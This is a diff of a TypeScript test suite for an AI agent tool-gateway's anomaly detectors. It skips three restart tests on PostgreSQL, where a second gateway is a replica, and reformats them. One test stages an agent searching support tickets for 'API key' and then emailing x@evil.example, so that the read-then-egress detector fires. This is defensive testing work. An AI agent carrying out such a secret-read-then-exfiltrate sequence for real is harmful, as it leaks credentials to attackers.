@@ -47,6 +47,15 @@ async function webhookReceiver(): Promise<Hook> {
 }
 
 for (const backend of backends()) {
+  // A second gateway opened on the same PostgreSQL database while the first runs is a second
+  // replica, not a restart: the first still leads the fleet, so the second runs no detectors
+  // (docs/architecture.md §5, "Replicas that agree"; the takeover is test/replicas/replicas-agree).
+  const restart = {
+    skip:
+      backend.name === 'postgres'
+        ? 'a second gateway on a shared database is a replica the first still leads'
+        : false,
+  } as const;
   describe(`detectors on ${backend.name}`, () => {
     let tg: Gateway;
     let world: World;
@@ -212,34 +221,39 @@ for (const backend of backends()) {
         assert.equal(rows[0]?.tool_id, 'post_webhook');
       });
 
-      test('a restart remembers the window’s private reads from the audit log', async () => {
-        const ctx = await open('support-bot');
-        allowed(await tg.gate.invoke(ctx, 'search_tickets', { query: 'API key' }));
-        await settle();
-        const other = await openGateway({
-          outbound: LOOPBACK_OUTBOUND,
-          db: dbUrl,
-          clock: () => now,
-        });
-        try {
-          now = new Date(now.getTime() + 30_000);
-          await other.gate.invoke(ctx, 'send_email', {
-            to: 'x@evil.example',
-            subject: 's',
-            body: 'b',
+      test(
+        'a restart remembers the window’s private reads from the audit log',
+        restart,
+        async () => {
+          const ctx = await open('support-bot');
+          allowed(await tg.gate.invoke(ctx, 'search_tickets', { query: 'API key' }));
+          await settle();
+          const other = await openGateway({
+            outbound: LOOPBACK_OUTBOUND,
+            db: dbUrl,
+            clock: () => now,
           });
-          await other.gate.flush();
-          await other.detectors?.idle();
-          const fired = other.detectors
-            ?.recentAlerts()
-            .filter(
-              (a) => a.alert.detector === 'read_then_egress' && a.alert.sessionId === ctx.sessionId,
-            );
-          assert.equal(fired?.length, 1);
-        } finally {
-          await other.close();
-        }
-      });
+          try {
+            now = new Date(now.getTime() + 30_000);
+            await other.gate.invoke(ctx, 'send_email', {
+              to: 'x@evil.example',
+              subject: 's',
+              body: 'b',
+            });
+            await other.gate.flush();
+            await other.detectors?.idle();
+            const fired = other.detectors
+              ?.recentAlerts()
+              .filter(
+                (a) =>
+                  a.alert.detector === 'read_then_egress' && a.alert.sessionId === ctx.sessionId,
+              );
+            assert.equal(fired?.length, 1);
+          } finally {
+            await other.close();
+          }
+        },
+      );
 
       test('benign: egress after the window, egress before the read, or a read that failed do not fire', async () => {
         const late = await open('support-bot');
@@ -293,39 +307,46 @@ for (const backend of backends()) {
         assert.equal((await alerts('new_destination', { sessionId: ctx.sessionId })).length, 1);
       });
 
-      test('the baseline is loaded from the audit log: a restarted gateway knows the hosts', async () => {
-        const other = await openGateway({
-          outbound: LOOPBACK_OUTBOUND,
-          db: dbUrl,
-          clock: () => now,
-          executor: demoExecutor().register('test.page', () => ({ status: 'x' })),
-          detectors: { new_destination: { min_history: 3 } },
-        });
-        try {
-          // Every detector's baseline query ran on this backend (a failed load is only counted).
-          assert.match((await other.metrics.render()).body, /toolgate_detector_failures_total 0\n/);
-          const s = await other.sessions.open('nd-bot');
-          const ctx = { agentId: 'nd-bot', sessionId: s.id };
-          allowed(await other.gate.invoke(ctx, 'fetch_page', { url: 'https://h1.example.com/' }));
-          await other.gate.flush();
-          await other.detectors?.idle();
-          assert.equal(
-            other.detectors?.recentAlerts().filter((a) => a.alert.detector === 'new_destination')
-              .length,
-            0,
-          );
-          allowed(await other.gate.invoke(ctx, 'fetch_page', { url: 'https://h2.example.com/' }));
-          await other.gate.flush();
-          await other.detectors?.idle();
-          assert.equal(
-            other.detectors?.recentAlerts().filter((a) => a.alert.detector === 'new_destination')
-              .length,
-            1,
-          );
-        } finally {
-          await other.close();
-        }
-      });
+      test(
+        'the baseline is loaded from the audit log: a restarted gateway knows the hosts',
+        restart,
+        async () => {
+          const other = await openGateway({
+            outbound: LOOPBACK_OUTBOUND,
+            db: dbUrl,
+            clock: () => now,
+            executor: demoExecutor().register('test.page', () => ({ status: 'x' })),
+            detectors: { new_destination: { min_history: 3 } },
+          });
+          try {
+            // Every detector's baseline query ran on this backend (a failed load is only counted).
+            assert.match(
+              (await other.metrics.render()).body,
+              /toolgate_detector_failures_total 0\n/,
+            );
+            const s = await other.sessions.open('nd-bot');
+            const ctx = { agentId: 'nd-bot', sessionId: s.id };
+            allowed(await other.gate.invoke(ctx, 'fetch_page', { url: 'https://h1.example.com/' }));
+            await other.gate.flush();
+            await other.detectors?.idle();
+            assert.equal(
+              other.detectors?.recentAlerts().filter((a) => a.alert.detector === 'new_destination')
+                .length,
+              0,
+            );
+            allowed(await other.gate.invoke(ctx, 'fetch_page', { url: 'https://h2.example.com/' }));
+            await other.gate.flush();
+            await other.detectors?.idle();
+            assert.equal(
+              other.detectors?.recentAlerts().filter((a) => a.alert.detector === 'new_destination')
+                .length,
+              1,
+            );
+          } finally {
+            await other.close();
+          }
+        },
+      );
     });
 
     describe('fan-out (egress bytes over p99: test/audit/egress-volume.test.ts)', () => {
@@ -361,51 +382,60 @@ for (const backend of backends()) {
     });
 
     describe('deny-rate baseline', () => {
-      test('an agent that is always denied this often is its own normal after a restart; a newcomer with the same burst fires', async () => {
-        await tg.config.apply(
-          ['noisy-bot', 'burst-bot'].flatMap((id) => [
-            { kind: 'Agent', spec: { id, owner: 'qa' } },
-            { kind: 'Grant', spec: { agent: id, capabilities: ['pages:read'] } },
-          ]),
-          admin,
-        );
-        await approvePendingReviews(tg);
-        const noisy = await open('noisy-bot');
-        // An hour of history: one denial every 100 s, six per 10-minute window.
-        for (let i = 0; i < 36; i++) {
-          now = new Date(now.getTime() + 100_000);
-          assert.equal((await tg.gate.invoke(noisy, 'nope', {})).kind, 'deny');
-        }
-        await settle();
-        const other = await openGateway({
-          outbound: LOOPBACK_OUTBOUND,
-          db: dbUrl,
-          clock: () => now,
-          detectors: {
-            deny_rate: { threshold: 5, window_seconds: 600, baseline_factor: 3, baseline_hours: 1 },
-          },
-        });
-        try {
-          const spikes = async (agentId: string) => {
-            const s = await other.sessions.open(agentId);
-            for (let i = 0; i < 6; i++) {
-              await other.gate.invoke({ agentId, sessionId: s.id }, 'nope', {});
-            }
-            await other.gate.flush();
-            await other.detectors?.idle();
-            return (
-              other.detectors
-                ?.recentAlerts()
-                .filter((a) => a.alert.detector === 'deny_rate' && a.alert.agentId === agentId)
-                .length ?? -1
-            );
-          };
-          assert.equal(await spikes('noisy-bot'), 0);
-          assert.equal(await spikes('burst-bot'), 1);
-        } finally {
-          await other.close();
-        }
-      });
+      test(
+        'an agent that is always denied this often is its own normal after a restart; a newcomer with the same burst fires',
+        restart,
+        async () => {
+          await tg.config.apply(
+            ['noisy-bot', 'burst-bot'].flatMap((id) => [
+              { kind: 'Agent', spec: { id, owner: 'qa' } },
+              { kind: 'Grant', spec: { agent: id, capabilities: ['pages:read'] } },
+            ]),
+            admin,
+          );
+          await approvePendingReviews(tg);
+          const noisy = await open('noisy-bot');
+          // An hour of history: one denial every 100 s, six per 10-minute window.
+          for (let i = 0; i < 36; i++) {
+            now = new Date(now.getTime() + 100_000);
+            assert.equal((await tg.gate.invoke(noisy, 'nope', {})).kind, 'deny');
+          }
+          await settle();
+          const other = await openGateway({
+            outbound: LOOPBACK_OUTBOUND,
+            db: dbUrl,
+            clock: () => now,
+            detectors: {
+              deny_rate: {
+                threshold: 5,
+                window_seconds: 600,
+                baseline_factor: 3,
+                baseline_hours: 1,
+              },
+            },
+          });
+          try {
+            const spikes = async (agentId: string) => {
+              const s = await other.sessions.open(agentId);
+              for (let i = 0; i < 6; i++) {
+                await other.gate.invoke({ agentId, sessionId: s.id }, 'nope', {});
+              }
+              await other.gate.flush();
+              await other.detectors?.idle();
+              return (
+                other.detectors
+                  ?.recentAlerts()
+                  .filter((a) => a.alert.detector === 'deny_rate' && a.alert.agentId === agentId)
+                  .length ?? -1
+              );
+            };
+            assert.equal(await spikes('noisy-bot'), 0);
+            assert.equal(await spikes('burst-bot'), 1);
+          } finally {
+            await other.close();
+          }
+        },
+      );
     });
 
     describe('identity and timing', () => {
